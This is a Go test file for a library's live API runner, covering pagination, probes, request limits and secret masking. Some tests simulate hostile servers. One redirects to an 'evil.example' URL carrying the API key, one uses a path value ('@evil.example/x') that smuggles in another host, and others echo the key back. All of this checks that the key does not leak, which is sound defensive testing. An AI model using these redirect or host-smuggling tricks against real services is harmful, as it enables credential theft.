package live_test

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/blooio-community/blooio-go/contract"
	"github.com/blooio-community/blooio-go/contract/openapi"
	"github.com/blooio-community/blooio-go/contract/probe"
	"github.com/blooio-community/blooio-go/contract/request"
	"github.com/blooio-community/blooio-go/internal/live"
)

const secretKey = "key_live_a1b2c3d4e5f6g7h8"

const shop = `openapi: 3.0.3
info: {title: T, version: '1'}
security: [{key: []}]
components: {securitySchemes: {key: {type: apiKey, in: query, name: k}}}
paths:
  /things:
    get:
      operationId: list
      x-pagination: {request: {limit: size, cursor: after}, response: {items: data, next: next}}
      parameters: [{name: size, in: query, schema: {type: integer, minimum: 1, maximum: 9}}, {name: after, in: query, schema: {type: string}}]
      responses: {'200': {description: A.}}
  /other:
    get: {operationId: other, responses: {'200': {description: A.}}}
  /open:
    get: {operationId: open, security: [], responses: {'200': {description: A.}}}
`

func requests(t *testing.T, text string) []request.Request {
	t.Helper()
	list, err := request.Of(load(t, text), request.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return list.Requests
}

func load(t *testing.T, text string) *openapi.Spec {
	t.Helper()
	spec, err := openapi.Load("spec.yaml", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return spec
}

// sent sends calls to a handler, and returns the exchanges.
func sent(t *testing.T, calls []live.Call, handler http.HandlerFunc) ([]contract.Exchange, error) {
	t.Helper()
	for i := range calls {
		calls[i].Base = "https://api.example.com/v1"
	}
	var all []contract.Exchange
	err := live.RunOperations(t.Context(), live.OperationOptions{
		Name: "live", Key: secretKey, Calls: calls, Transport: &answering{handler: handler},
		Exchange: func(ex contract.Exchange) { all = append(all, ex) },
	})
	return all, err
}

// pages answers a list with three pages, and everything else with an object.
func pages(w http.ResponseWriter, r *http.Request) {
	next := map[string]string{"": `"b"`, "b": `"c"`, "c": "null"}[r.URL.Query().Get("after")]
	w.Header().Set("Content-Type", "application/json")
	fmt.Fprintf(w, `{"data":[{"id":1}],"next":%s}`, next)
}

func TestRunOperations(t *testing.T) {
	calls, rest := live.Calls(requests(t, shop), 5, nil)
	if len(rest) != 0 {
		t.Fatalf("%d requests are left", len(rest))
	}
	withKey := 0
	all, err := sent(t, calls, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Query().Get("k") == secretKey {
			withKey++
		}
		if r.URL.Path == "/v1/open" && r.URL.RawQuery != "" {
			t.Errorf("a request without a key has %s", r.URL.RawQuery)
		}
		pages(w, r)
	})
	if err != nil || withKey != 4 {
		t.Fatalf("%d requests have the key, %v", withKey, err)
	}
	var got []string
	for i, ex := range all {
		if ex.Index != i || ex.Status != 200 || ex.Probe != "" {
			t.Errorf("exchange %+v", ex)
		}
		got = append(got, ex.Method+" "+ex.URL.String())
	}
	want := []string{"GET https://api.example.com/v1/open", "GET https://api.example.com/v1/other", "GET https://api.example.com/v1/things",
		"GET https://api.example.com/v1/things?after=b", "GET https://api.example.com/v1/things?after=c"}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// A list whose cursor leads to itself is asked for twice at most, and --pages bounds the pages.
func TestRunOperationsEnds(t *testing.T) {
	for name, test := range map[string]struct {
		pages, want int
		next        string
	}{"a loop": {9, 2, `"same"`}, "a page": {1, 1, `"b"`}, "no cursor": {9, 1, "7"}, "no JSON": {9, 1, ""}} {
		list := requests(t, shop)
		calls, _ := live.Calls(list[2:], test.pages, nil)
		all, err := sent(t, calls, func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, `{"data":[],"next":%s}`, test.next) })
		if err != nil || len(all) != test.want {
			t.Errorf("%s: %d exchanges, want %d, %v", name, len(all), test.want, err)
		}
	}
}

func TestRunOperationsWithProbes(t *testing.T) {
	spec := load(t, shop)
	calls, _ := live.Calls(requests(t, shop), 3, probe.Of(spec))
	keys := map[string]string{}
	all, err := sent(t, calls, func(w http.ResponseWriter, r *http.Request) {
		keys[r.URL.Query().Get("k")] = r.URL.Path
		pages(w, r)
	})
	seen := map[string]int{}
	for _, ex := range all {
		seen[ex.Probe]++
	}
	if err != nil || seen[""] != 2 || seen["default-page"] != 1 || seen["walk"] != 3 || seen["no-key"] != 1 || seen["unknown-key"] != 1 || seen["limit-negative"] != 2 {
		t.Errorf("%v, %v", seen, err)
	}
	if len(keys) != 3 {
		t.Errorf("keys of %v", len(keys))
	}
}

// A request for a page of its own has no probes, and one that may do without a key none of keys.
func TestProbesOfCalls(t *testing.T) {
	optional := strings.Replace(shop, "security: [{key: []}]", "security: [{}, {key: []}]", 1)
	for name, test := range map[string]struct {
		text   string
		values map[string][]string
		want   int
	}{"as described": {shop, nil, 13}, "a size": {shop, map[string][]string{"size": {"3"}}, 0}, "a cursor": {shop, map[string][]string{"after": {"b"}}, 0}, "an optional key": {optional, nil, 11}} {
		spec := load(t, test.text)
		list, err := request.Of(spec, request.Options{Operations: []string{"list"}, Values: test.values})
		if err != nil {
			t.Fatal(err)
		}
		all := probe.Of(load(t, shop))
		calls, _ := live.Calls(list.Requests, 5, all)
		if len(calls[0].Probes) != test.want {
			t.Errorf("%s: %d probes of %d, want %d", name, len(calls[0].Probes), len(all), test.want)
		}
	}
}

// Whatever goes wrong, and whatever the server repeats: the key is nowhere, and the run ends where it must.
func TestRunOperationsWhatIsBroken(t *testing.T) {
	tests := map[string]struct {
		answer http.HandlerFunc
		want   int    // exchanges
		err    string // part of it
	}{
		"an error status": {func(w http.ResponseWriter, r *http.Request) { http.Error(w, "broken", 500) }, 3, ""},
		"429":             {func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(429) }, 1, "429 (too many requests); no more requests were sent"},
		"a redirect to another host": {func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example/?k="+r.URL.Query().Get("k"), http.StatusFound)
		}, 3, ""},
		"the key repeated": {func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("X-Echo", r.URL.RawQuery)
			io.WriteString(w, `{"key":"`+secretKey+`"}`)
		}, 3, ""},
	}
	for name, test := range tests {
		t.Run(name, func(t *testing.T) {
			calls, _ := live.Calls(requests(t, shop), 5, nil)
			all, err := sent(t, calls, test.answer)
			if len(all) != test.want || (err == nil) != (test.err == "") || err != nil && !strings.Contains(err.Error(), test.err) {
				t.Errorf("%d exchanges, %v", len(all), err)
			}
			if text := fmt.Sprintf("%+v %s %v", all, bodies(all), err); strings.Contains(text, "a1b2c3d4e5f6g7h8") {
				t.Errorf("the key is in %s", text)
			}
		})
	}
}

func bodies(all []contract.Exchange) string {
	var b strings.Builder
	for _, ex := range all {
		fmt.Fprintf(&b, "%s %s %s", ex.URL, ex.Body, ex.Header)
	}
	return b.String()
}

type failing struct{}

func (failing) RoundTrip(req *http.Request) (*http.Response, error) {
	return nil, errors.New("malformed response " + req.URL.String())
}

func TestRunOperationsWithoutAResponse(t *testing.T) {
	calls, _ := live.Calls(requests(t, shop)[1:], 5, nil)
	for i := range calls {
		calls[i].Base = "https://api.example.com"
	}
	run := func(ctx context.Context) error {
		return live.RunOperations(ctx, live.OperationOptions{Key: secretKey, Calls: calls, Transport: failing{}, Exchange: func(contract.Exchange) {}})
	}
	err := run(t.Context())
	if err == nil || !strings.HasPrefix(err.Error(), "operation other: malformed response ") || strings.Contains(err.Error(), "a1b2") {
		t.Errorf("error %v", err)
	}
	canceled, cancel := context.WithCancel(t.Context())
	cancel()
	if err := run(canceled); err == nil {
		t.Error("a canceled run has no error")
	}
}

// The key goes to the server of the call, and to no other.
func TestKeyStaysWithItsServer(t *testing.T) {
	calls, _ := live.Calls(requests(t, shop)[1:2], 1, nil)
	calls[0].Base = "https://api.example.com"
	calls[0].Path = "@evil.example/x" // a path that makes another host of the URL
	var hosts []string
	live.RunOperations(t.Context(), live.OperationOptions{Key: secretKey, Calls: calls, Exchange: func(contract.Exchange) {}, Transport: &answering{handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if hosts = append(hosts, r.URL.Host); r.URL.Query().Get("k") != "" {
			t.Errorf("%s got the key", r.URL.Host)
		}
	})}})
	if len(hosts) != 1 || hosts[0] != "evil.example" {
		t.Errorf("hosts %v", hosts)
	}
}

// A run has 30 requests at most: one of each operation, then probes, then pages.
func TestLimitOfCalls(t *testing.T) {
	for n, want := range map[int]struct{ calls, rest, pages int }{1: {1, 0, 30}, 2: {2, 0, 29}, 29: {29, 0, 2}, 30: {30, 0, 1}, 31: {30, 1, 1}} {
		var b strings.Builder
		b.WriteString(shop[:strings.Index(shop, "  /other")])
		for i := range n - 1 {
			fmt.Fprintf(&b, "  /z%d: {get: {responses: {'200': {description: A.}}}}\n", i)
		}
		calls, rest := live.Calls(requests(t, b.String()), 100, nil)
		if len(calls) != want.calls || len(rest) != want.rest || calls[0].Pages != want.pages {
			t.Errorf("%d operations: %d calls, %d left, %d pages", n, len(calls), len(rest), calls[0].Pages)
		}
		withProbes, _ := live.Calls(requests(t, b.String()), 100, probe.Of(load(t, shop)))
		all, err := sent(t, withProbes, pages)
		if err != nil || len(all) > 30 {
			t.Errorf("%d operations with probes: %d requests, %v", n, len(all), err)
		}
	}
}

// A key is masked where a server repeats it, if it is long enough to be told from other text.
func TestLimitOfSecrets(t *testing.T) {
	for key, masked := range map[string]bool{"abcde": false, "abcdef": true, "abcdefg": true} {
		calls, _ := live.Calls(requests(t, shop)[1:2], 1, nil)
		calls[0].Base = "https://api.example.com"
		var body string
		server := &answering{handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, r.URL.Query().Get("k")) })}
		if err := live.RunOperations(t.Context(), live.OperationOptions{Key: key, Calls: calls, Transport: server, Exchange: func(ex contract.Exchange) { body = string(ex.Body) }}); err != nil {
			t.Fatal(err)
		}
		if (body != key) != masked || len(body) != len(key) {
			t.Errorf("%s became %s", key, body)
		}
	}
}
